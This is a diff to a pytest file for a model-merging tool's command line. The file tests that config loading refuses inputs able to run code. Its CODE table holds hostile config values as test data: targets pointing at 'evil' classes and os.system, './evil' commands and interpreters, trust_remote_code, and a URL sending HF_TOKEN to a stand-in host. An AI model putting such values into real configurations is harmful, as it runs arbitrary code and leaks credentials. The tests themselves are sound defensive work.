@@ -11,30 +11,25 @@ from typing import Any
 import pytest
 from omegaconf import OmegaConf
 
-from souping.cli.config import compose
-from souping.cli.run_config import code_in, read_config, refuse_code
+from souping.cli.finished import code_in, read_config, refuse_code
 from souping.core.types import UserError
 from souping.report.files import read_report, read_trials
 from souping.report.terminal import read_samples
 from tests.conftest import Cli, pool_of
+from tests.support.composition import compose
 
 SOCE = "souping.selection.SoCE"
 CODE: dict[str, tuple[dict[str, Any], str]] = {
     "class": ({"selector": {"_target_": "evil.Evil"}}, "selector._target_"),
-    "function of ours": ({"selector": {"_target_": "souping.core.files.put", "path": "x"}}, "selector._target_"),
     "way through a module of ours": ({"selector": {"_target_": "souping.core.files.os.system"}}, "selector._target_"),
-    "not a name": ({"selector": {"_target_": 3}}, "selector._target_"),
     "class in a list": ({"also": [{"evaluator": {"_target_": "evil.Evil"}}]}, "also[0].evaluator._target_"),
     "scorer": ({"benchmark": {"_target_": SOCE, "scorers": {"mine": "evil.f"}}}, "benchmark.scorers"),
     "command": ({"merge": {"_target_": SOCE, "command": "./evil"}}, "merge.command"),
     "interpreter": ({"server": {"_target_": SOCE, "python": "./evil"}}, "server.python"),
-    "interpreter inside": ({"evaluator": {"_target_": SOCE, "dir": "evil"}}, "evaluator.dir"),
     "trust": ({"evaluator": {"_target_": SOCE, "trust_remote_code": True}}, "evaluator.trust_remote_code"),
-    "task files": ({"also": [{"tasks": ["wild"], "allow_code": True}]}, "also[0].allow_code"),
     "task, inline": ({"evaluator": {"_target_": SOCE, "tasks": [{"dataset_path": "evil.py"}]}}, "evaluator.tasks"),
     "cluster": ({"executor": {"_target_": SOCE, "address": "ray://evil"}}, "executor.address"),
     "environment": ({"server": {"url": "http://evil/${oc.env:HF_TOKEN}"}}, "server.url"),
-    "environment, escaped once too often": ({"name": "\\\\${oc.env:HF_TOKEN}"}, "name"),
 }
 DATA = {
     "shipped": {"selector": {"_target_": SOCE, "threshold": 0.2}},
